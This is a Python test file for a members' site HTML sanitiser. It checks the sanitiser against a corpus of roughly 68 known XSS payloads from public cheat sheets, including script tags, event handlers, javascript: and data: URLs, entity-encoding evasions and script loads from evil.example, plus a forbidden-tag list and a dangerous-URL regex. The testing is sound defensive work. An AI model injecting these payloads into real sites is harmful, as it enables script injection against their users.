"""The sanitiser keeps what members may write and removes every known XSS vector."""

import re

import pytest
from bs4 import BeautifulSoup

from loket.sanitize import clean_html, clean_text

# A corpus of known payloads (OWASP XSS filter evasion cheat sheet, PortSwigger, html5sec).
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",  # noqa: E501
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",  # noqa: E501
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<SCRIPT SRC=https://evil.example/xss.js?< B >",
    "<SCRIPT SRC=//evil.example/.j>",
    "<iframe src=https://evil.example/xss.html <",
    "\\\";alert('XSS');//",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    '<a href="javascript:alert(1)">klik</a>',
    '<a href="JAVASCRIPT:alert(1)">klik</a>',
    '<a href="  javascript:alert(1)">klik</a>',
    '<a href="java&#x0D;script:alert(1)">klik</a>',
    '<a href="&#106;avascript:alert(1)">klik</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
    '<a href="vbscript:msgbox(1)">klik</a>',
    '<a href="https://ok.example" onclick="alert(1)">klik</a>',
    '<a href="https://ok.example" style="position:fixed;top:0">klik</a>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv">',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<audio src=x onerror=alert(1)>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    '<base href="javascript:alert(1)//">',
    '<img src="https://tracker.example/pixel.gif" width=1 height=1>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<p style="color:red" onmouseover=alert(1)>tekst</p>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    '<marquee onstart="alert(1)">x</marquee>',
]

FORBIDDEN_TAGS = {
    "script",
    "img",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "style",
    "link",
    "meta",
    "form",
    "input",
    "button",
    "frame",
    "frameset",
    "base",
    "video",
    "audio",
    "source",
    "details",
    "table",
    "body",
    "div",
    "textarea",
    "template",
    "noscript",
    "marquee",
    "isindex",
    "xmp",
}
BAD_URL = re.compile(r"^\s*(javascript|vbscript|data):", re.IGNORECASE)


def test_corpus_is_large_enough():
    assert len(XSS_PAYLOADS) >= 50


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_clean_html_neutralises_payload(payload):
    cleaned = clean_html(payload)
    soup = BeautifulSoup(cleaned, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name not in FORBIDDEN_TAGS, cleaned
        for attr, value in tag.attrs.items():
            assert not attr.lower().startswith("on"), cleaned
            assert attr.lower() != "style", cleaned
            if attr.lower() in {"href", "src"}:
                assert not BAD_URL.match(value), cleaned
    # Whatever survives as text must not turn into markup when shown again.
    assert "<script" not in cleaned.lower()


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_clean_text_leaves_no_tags(payload):
    cleaned = clean_text(payload)
    assert not re.search(r"<\s*[a-z!/]", cleaned, re.IGNORECASE), cleaned


def test_members_keep_links_lists_and_bold():
    text = (
        "<p>Tip: lees <strong>dit</strong> artikel</p>"
        '<ul><li>één</li><li><a href="https://www.kvk.nl/">KvK</a></li></ul>'
    )
    cleaned = clean_html(text)
    soup = BeautifulSoup(cleaned, "html.parser")
    assert soup.find("strong").text == "dit"
    assert [li.text for li in soup.find_all("li")] == ["één", "KvK"]
    link = soup.find("a")
    assert link["href"] == "https://www.kvk.nl/"
    assert link["rel"] == ["nofollow", "ugc", "noopener"]


def test_plain_urls_become_safe_links():
    cleaned = clean_html("Kijk op https://www.ondernemersplein.nl voor meer")
    link = BeautifulSoup(cleaned, "html.parser").find("a")
    assert link["href"] == "https://www.ondernemersplein.nl"
    assert link["rel"] == ["nofollow", "ugc", "noopener"]


def test_clean_html_is_stable_when_applied_twice():
    once = clean_html('<p>Hallo <a href="https://a.example">a</a> <script>x</script></p>')
    assert clean_html(once) == once


def test_clean_text_keeps_ordinary_characters():
    assert (
        clean_text("Bakkerij & Zn <b>sinds</b> 1921 — 5 < 10")
        == "Bakkerij & Zn sinds 1921 — 5 < 10"
    )


@pytest.mark.parametrize("value", [None, ""])
def test_empty_input(value):
    assert clean_html(value) == ""
    assert clean_text(value) == ""
